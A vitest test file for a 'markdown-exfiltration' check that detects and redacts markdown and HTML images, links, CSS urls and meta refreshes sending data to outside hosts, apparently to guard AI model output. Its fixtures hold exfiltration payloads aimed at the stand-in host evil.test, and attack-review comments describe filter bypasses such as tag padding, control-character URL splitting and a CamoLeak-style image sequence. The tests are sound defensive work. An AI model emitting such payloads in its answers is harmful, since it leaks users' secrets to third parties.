/** The `markdown-exfiltration` check: its params, its spans, what it says. */
import { describe, expect, it } from 'vitest';
import { getCheck } from '../../../src/policy/checks/registry.js';
import type { CheckOutcome } from '../../../src/policy/checks/types.js';
import { redactRange } from '../../../src/policy/redact.js';
import { input } from '../../helpers/check-input.js';

const def = getCheck('markdown-exfiltration')!;
const run = (params: object, text: string): CheckOutcome =>
  def.create(def.params.parse(params)).evaluate(input(text));
const fails = (params: object, text: string) => run(params, text).status === 'fail';
const redacted = (params: object, text: string) => {
  const out = run(params, text);
  return out.status === 'fail'
    ? redactRange(
        text,
        out.spans.map((s) => ({ ...s, rule: 'r' })),
      ).text
    : text;
};

const hex = (s: string) => Buffer.from(s).toString('hex');
const camo = (c: string) =>
  `https://camo.githubusercontent.com/${hex(`k${c}`).padEnd(40, '0')}/${hex(`https://x.test/${c}`)}`;
const CAMO_RUN = [...'hunter2'].map((c) => `![${c}](${camo(c)})`).join('');

describe('markdown-exfiltration params', () => {
  it.each([
    ['defaults: an image with data', {}, '![a](https://evil.test/p.png?d=c2VjcmV0)', true],
    ['defaults: a link with data', {}, '[a](https://evil.test/?q=the+user+asked)', true],
    [
      'an allowed host',
      { allow_domains: ['evil.test'] },
      '![a](https://evil.test/p.png?d=c2VjcmV0)',
      false,
    ],
    [
      'a wildcard',
      { allow_domains: ['*.evil.test'] },
      '![a](https://cdn.evil.test/p.png?d=c2VjcmV0)',
      false,
    ],
    [
      'a sequence to an allowed host',
      { allow_domains: ['camo.githubusercontent.com'] },
      CAMO_RUN,
      true,
    ],
    [
      'sequences off',
      { allow_domains: ['camo.githubusercontent.com'], image_series: 0 },
      CAMO_RUN,
      false,
    ],
    ['links off: a link', { links: false }, '[a](https://evil.test/?q=the+user+asked)', false],
    ['links off: an image', { links: false }, '![a](https://evil.test/p.png?d=c2VjcmV0)', true],
    [
      'links off: an image whose `[` is out of sight',
      { links: false },
      'alt](https://evil.test/p.png?d=c2VjcmV0)',
      true,
    ],
    [
      'links off: an HTML link',
      { links: false },
      '<a href="https://evil.test/?q=the+user+asked">x</a>',
      false,
    ],
    ['a tracking pixel', { all_external_images: true }, '![a](https://evil.test/pixel.gif)', true],
    ['a plain image', {}, '![a](https://evil.test/pixel.gif)', false],
    ['a bare URL, by default', {}, 'see https://evil.test/?q=the+user+asked', false],
    [
      'a bare URL, when asked',
      { bare_urls: true },
      'see https://evil.test/?q=the+user+asked',
      true,
    ],
    [
      'a harmless parameter of the policy',
      { harmless_params: ['variant'] },
      '![a](https://e.test/p.png?variant=dark)',
      false,
    ],
    ['an unknown parameter', {}, '![a](https://e.test/p.png?variant=dark)', true],
    [
      'a host exception',
      { host_exceptions: [{ hosts: ['cdn.e.test'], params: ['sig'] }] },
      '![a](https://cdn.e.test/p.png?sig=ab12cd34)',
      false,
    ],
    [
      'a host exception for paths',
      { host_exceptions: [{ hosts: ['cdn.e.test'], path: true }] },
      '![a](https://cdn.e.test/c2VjcmV0IHByb2plY3Q.png)',
      false,
    ],
    [
      'built-in allowances on',
      {},
      '![a](https://img.shields.io/badge/x-y-green?style=flat)',
      false,
    ],
    [
      'built-in allowances off',
      { builtin_allowances: false },
      '![a](https://img.shields.io/badge/x-y-green?style=flat)',
      true,
    ],
  ])('%s', (_n, params, text, expected) => {
    expect(fails(params, text)).toBe(expected);
  });

  it('rejects a host exception without hosts', () => {
    expect(def.params.safeParse({ host_exceptions: [{ hosts: [] }] }).success).toBe(false);
  });
});

describe('markdown-exfiltration spans', () => {
  it.each([
    ['an inline image', '![a](https://evil.test/p.png?d=x1) ok', '![a]([REDACTED:r]) ok'],
    ['a `<…>` destination', '![a](<https://evil.test/p q.png?d=x1>)', '![a](<[REDACTED:r]>)'],
    [
      'an entity-encoded attribute',
      '<img alt=">" src="&#104;ttps://evil.test/?d=x1">',
      '<img alt=">" src="[REDACTED:r]">',
    ],
    [
      'a definition',
      '![a][r]\n\n[r]:\n  https://evil.test/?d=x1',
      '![a][r]\n\n[r]:\n  [REDACTED:r]',
    ],
    [
      'CSS',
      '<style>b{background:url(https://evil.test/?d=x1)}</style>',
      '<style>b{background:url([REDACTED:r])}</style>',
    ],
    [
      'invisible characters in the URL',
      '![a](https://ev\u2060il.test/p.png?d=x\u200b1)',
      '![a]([REDACTED:r])',
    ],
  ])('redacts %s', (_n, text, out) => {
    expect(redacted({}, text)).toBe(out);
  });

  it('redacts every image of a sequence', () => {
    const out = redacted({ allow_domains: ['camo.githubusercontent.com'] }, CAMO_RUN);
    expect(out).toBe([...'hunter2'].map((c) => `![${c}]([REDACTED:r])`).join(''));
  });

  it('says what it found without quoting it', () => {
    const out = run({}, `![a](https://evil.test/p.png?d=hunter2) ${CAMO_RUN}`);
    expect(out.status === 'fail' && out.detail).toBe(
      '8 image(s) or link(s) sending data to another host (7 in an image sequence spelling data)',
    );
  });

  it('holds streams at every construct it reads', () => {
    const texts = (p: object) =>
      (def.create(def.params.parse(p)).stream?.triggers ?? []).map((t) => String(t.text));
    expect(texts({})).toEqual(['](', ']:', '<', '<style']);
    expect(texts({ bare_urls: true })).toEqual(['](', ']:', '<', '<style', 'http', 'www.']);
  });
});

// Attack review (issue 14): a tag was read over its first 16 KB only, so padding before the
// URL-bearing attribute hid it from a whole answer (markdown-it and marked render it whole).
describe('markdown-exfiltration reads a long tag to its end', () => {
  const url = 'https://evil.test/p.png?d=c2VjcmV0LXRva2Vu';
  it.each([
    ['a long alt', `<img alt="${'x'.repeat(17_000)}" src="${url}">`],
    ['many attributes', `<img ${'a '.repeat(9_000)}src="${url}">`],
    ['a long style', `<div style="${' '.repeat(17_000)}background:url(${url})">x</div>`],
    ['a long <style>', `<style>${' '.repeat(17_000)}body{background:url(${url})}</style>`],
  ])('%s', (_name, text) => {
    expect(redacted({}, `Look ${text} done`)).not.toContain('c2VjcmV0LXRva2Vu');
  });
});

// Attack review (issue 14): a refresh's `url=` is optional (HTML's declarative refresh), so
// `content="0; https://…"` redirects as well.
describe('markdown-exfiltration reads a refresh without url=', () => {
  it.each([
    '<meta http-equiv="refresh" content="0; https://evil.test/?d=c2VjcmV0LXRva2Vu">',
    '<meta http-equiv="refresh" content="0,https://evil.test/?d=c2VjcmV0LXRva2Vu">',
    '<meta http-equiv=refresh content="1;\'https://evil.test/?d=c2VjcmV0LXRva2Vu\'">',
  ])('%s', (text) => {
    expect(redacted({}, text)).not.toContain('c2VjcmV0LXRva2Vu');
  });
  it('and no URL in a viewport', () => {
    expect(fails({}, '<meta name="viewport" content="width=device-width, initial-scale=1">')).toBe(
      false,
    );
  });
});

// Attack review (issue 14): the URL parser drops leading C0 controls and every tab and newline,
// so `/&#9;/evil.test/…` and `&#1;//evil.test/…` are fetched from evil.test; they were read
// as relative URLs.
describe('markdown-exfiltration reads // split by a tab or a newline, or after a control', () => {
  it.each([
    '<img src="&#1;//evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
    '<img src="/&#9;/evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
    '<img src="/\n/evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
    '<div style="background:image-set(&quot;/\\9 /evil.test/p.png?d=c2VjcmV0LXRva2Vu&quot; 1x)">x</div>',
  ])('%j', (text) => {
    expect(redacted({}, text)).not.toContain('c2VjcmV0LXRva2Vu');
  });
});

// Attack review (issue 14): a CamoLeak run laid out as a list or a table was no run (only
// whitespace could stand between its images), though a renderer fetches them all in order.
describe('markdown-exfiltration reads an image sequence through list and table markup', () => {
  it.each([
    ['a list', [...'hunter2'].map((c) => `- ![${c}](${camo(c)})`).join('\n')],
    ['a numbered list', [...'hunter2'].map((c, i) => `${i + 1}. ![${c}](${camo(c)})`).join('\n')],
    ['a table row', `${[...'hunter2'].map((c) => `| ![${c}](${camo(c)}) `).join('')}|`],
  ])('%s', (_name, text) => {
    const out = redacted({ allow_domains: ['camo.githubusercontent.com'] }, text);
    expect(out).not.toContain('camo.githubusercontent.com');
  });
});
